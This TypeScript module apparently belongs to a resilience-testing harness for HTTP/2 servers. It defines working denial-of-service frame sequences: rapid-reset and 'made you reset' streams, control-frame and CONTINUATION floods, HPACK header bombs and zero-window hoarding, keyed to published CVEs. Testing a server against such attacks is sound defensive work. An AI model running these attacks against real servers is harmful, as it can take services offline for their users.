/**
 * Attacks on an HTTP/2 server, each a sequence of chunks to be sent on one connection (design notes: the classes of
 * CVE-2019-9511 to 9518, CVE-2023-44487, CVE-2025-8671, CONTINUATION floods, HPACK bombs). Chunks are batches of
 * frames: a server that looks at frames one read at a time has to see many in one.
 */
import type { AttackOptions } from './attack-client.ts';
import {
  Flag,
  FrameType,
  frame,
  headers,
  headersInParts,
  indexedField,
  literal,
  ping,
  priority,
  requestBlock,
  resetStream,
  settings,
  windowUpdate,
} from './frames.ts';

/** One attack. */
export interface Attack {
  readonly name: string;
  readonly options?: AttackOptions;
  /** `count` says how many of what the attack is made of; each has a default beyond all limits. */
  frames(count?: number): Iterable<Buffer>;
}

/** SETTINGS_INITIAL_WINDOW_SIZE. */
const INITIAL_WINDOW = 4;
/** Largest payload that every receiver must take. */
const MAX_FRAME_BYTES = 16_384;
const BATCH = 128;
/** Frames of which the answers do not fit into the system's socket buffers. */
const MOST_ANSWERED = 1_500_000;

/** Request `i` has stream `2i + 1`. */
const streamOf = (i: number) => 2 * i + 1;

/** `make(i)` for i < count, many in a chunk. */
function* batches(count: number, make: (i: number) => Buffer): Generator<Buffer> {
  for (let i = 0; i < count; i += BATCH) {
    const last = Math.min(count, i + BATCH);
    yield Buffer.concat(Array.from({ length: last - i }, (_, k) => make(i + k)));
  }
}

function* after(first: Buffer, rest: Iterable<Buffer>): Generator<Buffer> {
  yield first;
  yield* rest;
}

/** A request that is open for its body. */
const openRequest = headers(1, requestBlock('/', 'POST'), false);

/** A request of which the server then resets the stream, because of one more frame. */
function madeYouReset(name: string, endStream: boolean, extra: (stream: number) => Buffer): Attack {
  const request = (i: number) => {
    const stream = streamOf(i);
    const block = requestBlock('/', endStream ? 'GET' : 'POST');
    return Buffer.concat([headers(stream, block, endStream), extra(stream)]);
  };
  return { name, frames: (count = 3000) => batches(count, request) };
}

const RESETS: readonly Attack[] = [
  {
    name: 'rapid reset',
    frames: (count = 3000) =>
      batches(count, (i) => Buffer.concat([headers(streamOf(i), requestBlock()), resetStream(streamOf(i))])),
  },
  {
    name: 'rapid reset of uploads',
    frames: (count = 3000) =>
      batches(count, (i) =>
        Buffer.concat([headers(streamOf(i), requestBlock('/', 'POST'), false), resetStream(streamOf(i))]),
      ),
  },
  madeYouReset('made you reset: window update of 0', true, (stream) => windowUpdate(stream, 0)),
  madeYouReset('made you reset: window beyond 2³¹', true, (stream) => windowUpdate(stream, 0x7fffffff)),
  madeYouReset('made you reset: data after the end', true, (stream) =>
    frame(FrameType.data, Flag.endStream, stream, Buffer.from('x')),
  ),
  madeYouReset('made you reset: head after the end', true, (stream) => headers(stream, requestBlock())),
  madeYouReset('made you reset: priority of 4 bytes', true, (stream) =>
    frame(FrameType.priority, Flag.none, stream, Buffer.alloc(4)),
  ),
  madeYouReset('made you reset: depends on itself', true, (stream) => priority(stream, stream)),
  madeYouReset('made you reset: trailers without an end', false, (stream) =>
    headers(stream, literal('x-trailer', '1'), false),
  ),
  {
    name: 'made you reset: not HTTP',
    frames: (count = 3000) =>
      batches(count, (i) => headers(streamOf(i), Buffer.concat([requestBlock(), literal('connection', 'close')]))),
  },
];

const FLOODS: readonly Attack[] = [
  {
    name: 'settings',
    options: { deaf: true },
    frames: (count = MOST_ANSWERED) => batches(count, () => settings()),
  },
  { name: 'ping', options: { deaf: true }, frames: (count = MOST_ANSWERED) => batches(count, () => ping()) },
  {
    name: 'empty data',
    frames: (count = 10_000) =>
      after(
        openRequest,
        batches(count, () => frame(FrameType.data, Flag.none, 1)),
      ),
  },
  {
    name: 'padding only data',
    frames: (count = 10_000) =>
      after(
        openRequest,
        batches(count, () => frame(FrameType.data, Flag.padded, 1, Buffer.from([1, 0]))),
      ),
  },
  {
    name: 'empty headers and continuations',
    frames: (count = 10_000) =>
      after(
        frame(FrameType.headers, Flag.none, 1),
        batches(count, () => frame(FrameType.continuation, Flag.none, 1)),
      ),
  },
  { name: 'priority', frames: (count = 50_000) => batches(count, (i) => priority(streamOf(i % 1000), 0)) },
  { name: 'window update', frames: (count = 50_000) => batches(count, () => windowUpdate(0, 1)) },
  {
    name: 'window update of a stream',
    frames: (count = 50_000) =>
      after(
        openRequest,
        batches(count, () => windowUpdate(1, 1)),
      ),
  },
  {
    name: 'reset of closed streams',
    frames: (count = 50_000) =>
      after(
        headers(1, requestBlock()),
        batches(count, () => resetStream(1)),
      ),
  },
  {
    name: 'streams beyond the limit',
    frames: (count = 20_000) => batches(count, (i) => headers(streamOf(i), requestBlock('/', 'POST'), false)),
  },
  {
    name: 'unknown frames',
    frames: (count = 50_000) => batches(count, () => frame(0xfa, Flag.none, 0)),
  },
];

/** A head of its own size limit and more, cut in frames; the last has END_HEADERS. */
function bigHead(stream: number, ...fields: Buffer[]): Buffer[] {
  return headersInParts(stream, Buffer.concat([requestBlock(), ...fields]), MAX_FRAME_BYTES);
}

/** An entry as large as the table takes, added by a request of its own, then referenced `count` times in one head. */
function referenceBomb(name: string, value: string, count: number): Buffer[] {
  const reference = indexedField(62);
  const block = Buffer.concat([requestBlock(), literal(name, value, true)]);
  return [headers(1, block), ...bigHead(3, ...Array.from({ length: count }, () => reference))];
}

const HEADS: readonly Attack[] = [
  {
    name: 'continuation',
    frames: (count = 5000) =>
      after(
        frame(FrameType.headers, Flag.endStream, 1, requestBlock()),
        batches(count, (i) => frame(FrameType.continuation, Flag.none, 1, literal(`x-${i}`, 'a'.repeat(1000)))),
      ),
  },
  {
    name: 'continuation, without a field that ends',
    frames: (count = 2000) =>
      after(
        // A value of 2²⁸ bytes is announced; there is never a whole field to be counted.
        frame(FrameType.headers, Flag.endStream, 1, Buffer.from([0, 1, 0x78, 0x7f, 0x81, 0xff, 0xff, 0x7f])),
        batches(count, () => frame(FrameType.continuation, Flag.none, 1, Buffer.alloc(1000, 0x61))),
      ),
  },
  {
    name: 'header bomb: count',
    frames: (count = 20_000) => bigHead(1, ...Array.from({ length: count }, (_, i) => literal(`x${i}`, ''))),
  },
  { name: 'header bomb: size', frames: (count = 1 << 20) => bigHead(1, literal('x-big', 'a'.repeat(count))) },
  { name: 'header bomb: references', frames: (count = 16_000) => referenceBomb('x-bomb', 'a'.repeat(4000), count) },
  { name: 'header bomb: cookie crumbs', frames: (count = 16_000) => referenceBomb('cookie', 'c'.repeat(4000), count) },
  { name: 'header bomb: hosts', frames: (count = 16_000) => referenceBomb('host', 'h'.repeat(3000), count) },
  {
    name: 'header bomb: trailers',
    frames: (count = 16_000) => {
      const add = headers(1, Buffer.concat([requestBlock(), literal('x-bomb', 'a'.repeat(4000), true)]));
      const open = headers(3, requestBlock('/', 'POST'), false);
      const trailers = Buffer.concat(Array.from({ length: count }, () => indexedField(62)));
      return [add, open, ...headersInParts(3, trailers, MAX_FRAME_BYTES)];
    },
  },
];

const HOARDS: readonly Attack[] = [
  {
    name: 'zero window',
    options: { settings: { [INITIAL_WINDOW]: 0 } },
    frames: (count = 100) => batches(count, (i) => headers(streamOf(i), requestBlock('/'))),
  },
  {
    name: 'open uploads',
    frames: (count = 100) => batches(count, (i) => headers(streamOf(i), requestBlock('/', 'POST'), false)),
  },
];

/** All of them; those of the last group keep to the rules and hold what they get for as long as they are let. */
export const ATTACKS: readonly Attack[] = [...RESETS, ...FLOODS, ...HEADS, ...HOARDS];

/** The attack of that name. */
export function attackNamed(name: string): Attack {
  const found = ATTACKS.find((attack) => attack.name === name);
  if (!found) throw new Error(`no attack is called ${name}`);
  return found;
}
